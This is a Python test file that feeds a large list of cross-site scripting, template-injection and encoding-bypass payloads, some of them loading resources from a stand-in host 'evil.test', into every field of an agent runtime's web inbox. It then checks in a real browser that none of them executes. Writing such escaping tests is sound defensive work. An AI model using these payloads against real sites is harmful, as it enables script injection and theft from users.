"""Rows 5 and 76: text that wants to be a script, in every field, before a real browser."""

from __future__ import annotations

from typing import Any

from fsm_agent import Agent, Runtime, tool_from
from fsm_agent.inbox.links import make_link
from fsm_agent.run.content import canonical_json
from tests.conftest import USAGE, ScriptedModel, ask
from tests.inbox.browser import chromium, person_at
from tests.inbox.conftest import KEYS, Opener, Site, desk_agent

_TAGS = [
    "<script>alert({n})</script>",
    "<ScRiPt src=//evil.test/{n}.js></sCrIpT>",
    "<img src=x onerror=alert({n})>",
    "<img src=//evil.test/{n}.png>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'>",
    "<body onload=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=//evil.test/{n}.mp3 autoplay>",
    "<object data=//evil.test/{n}></object>",
    "<embed src=//evil.test/{n}>",
    "<link rel=stylesheet href=//evil.test/{n}.css>",
    "<style>@import '//evil.test/{n}.css';*{{color:red}}</style>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/{n}'>",
    "<form action=//evil.test/{n}><button>x</button></form>",
    "<details open ontoggle=alert({n})>",
    "<marquee onstart=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<a href=javascript:alert({n})>x</a>",
    "<math><mtext></p><img src=x onerror=alert({n})>",
    "<template><script>alert({n})</script></template>",
    "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "</template><img src=x onerror=alert({n})>",
    "</script><script>alert({n})</script>",
    "<!--<img src='--><img src=x onerror=alert({n})>",
]
_BREAKS = [
    '"><script>alert({n})</script>',
    "'><script>alert({n})</script>",
    '" onmouseover="alert({n})" x="',
    "' autofocus onfocus='alert({n})",
    "` onerror=alert({n}) `",
    "{{{{7*7}}}}",
    "{{% import os %}}",
    "${{alert({n})}}",
    "#{{alert({n})}}",
    "javascript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "![x](https://evil.test/{n}.png)",
    "[x](javascript:alert({n}))",
    "<https://evil.test/{n}>",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;script&#62;alert({n})&#60;/script&#62;",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "\u202e<script>alert({n})</script>",
    "<scr\u0000ipt>alert({n})</script>",
    "\ufeff<script>alert({n})</script>",
    "＜script＞alert({n})＜/script＞",
    "<\u017fcript>alert({n})</script>",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    "]]><script>alert({n})</script>",
    "\r\n\r\n<script>alert({n})</script>",
    "event: end\ndata: <script>alert({n})</script>\n\n",
    "constructor.constructor('alert({n})')()",
    "expression(alert({n}))",
    '-->\'"/></sCript><svG x=">" onload=(co\u006efirm)``>',
]
PAYLOADS = [text.format(n=number) for number, text in enumerate([*_TAGS, *_BREAKS])]
ALL = "\n".join(PAYLOADS)


async def test_row_5_and_76_no_text_of_anybody_becomes_a_script(open_site: Opener) -> None:
    """Every payload as argument, key, answer, task, tool name, reason, comment, name of a person,
    agent and worker, and as what a fenced worker reported."""
    arguments = {f"k{number} {text}": text for number, text in enumerate(PAYLOADS)}
    agent = Agent(PAYLOADS[0], "Work.", tools=desk_agent().registry)
    said = iter(
        [
            ask((PAYLOADS[2], {"x": ALL}), ("note", {"text": ALL})),
            ask(("ask_user", {"question": ALL, "options": PAYLOADS[:4]})),
        ]
    )

    def answer(request: Any) -> Any:
        reply = next(said)
        return type(reply)(label="TOOL", text=ALL, calls=reply.calls, usage=USAGE)

    site: Site = await open_site(ScriptedModel(answer), agents={agent.name: agent})
    worker = Runtime(site.runtime._deps, owner=PAYLOADS[4])
    run_id = await worker.start(agent, ALL, requester=PAYLOADS[30])
    await worker.work(run_id, agent)
    note = (await worker.requests(run_id))[0]
    await worker.comment(run_id, note.ask_id, ALL, by=PAYLOADS[31])
    await worker.claim(run_id, note.ask_id, by=PAYLOADS[2])
    await site.runtime.store.report_orphan((await worker.runs())[0].run_id, ALL.encode())
    edited = canonical_json({"text": ALL})
    await worker.decide(run_id, note.ask_id, "edit", by=PAYLOADS[32], reason=ALL, arguments=edited)
    await worker.work(run_id, agent)
    (question,) = await worker.requests(run_id)
    keyed = await _with_odd_keys(site, arguments)
    token = make_link(KEYS, question, audience=PAYLOADS[33], now_s=site.desk.clock.wall_ms() / 1000)
    pages = [
        "/inbox", "/runs", f"/runs/{run_id}", f"/runs/{run_id}/asks/{question.ask_id}",
        f"/runs/{run_id}/asks/{note.ask_id}", keyed, "/workers", "/policies",
        f"/audit?run={run_id}", f"/a/{token}", "/runs?q=<script>alert(1)</script>",
        "/audit?by=%22><img%20src=x%20onerror=alert(1)>", "/inbox?q='\"><svg onload=alert(1)>",
        "/runs/<script>alert(1)</script>", "/nothing/<img src=x onerror=alert(1)>",
    ]  # fmt: skip

    async with chromium() as browser, person_at(site, browser, "root") as root:
        for path in pages:
            await root.page.goto(site.url + path, wait_until="load")
            await root.page.evaluate(
                "document.querySelectorAll('details').forEach(each => { each.open = true })"
            )
            if await root.page.locator("[data-verb=edit]:not([disabled])").count():
                await root.page.click("[data-verb=edit]")
            assert root.wrong == [], path
            foreign = root.page.locator("main script, main iframe, main img[src*=evil]")
            assert await foreign.count() == 0, path
        shown = await root.page.evaluate("document.title")

    assert "alert" not in shown or "<" in shown  # as text, if at all


async def _with_odd_keys(site: Site, arguments: dict[str, str]) -> str:
    """The page of a request whose arguments have the payloads as names."""
    spec = {
        "type": "function",
        "function": {"name": "odd", "description": ALL, "parameters": {"type": "object"}},
    }
    odd = tool_from(spec, lambda **kwargs: "ok", approval="always")
    odd_agent = Agent("odd", "Work.", tools=[odd])
    model = ScriptedModel(lambda request: ask(("odd", arguments)))
    runtime = site.runtime.with_model(model)
    run_id = await runtime.start(odd_agent, "go")
    await runtime.work(run_id, odd_agent)
    (request,) = await runtime.requests(run_id)
    return f"/runs/{run_id}/asks/{request.ask_id}"
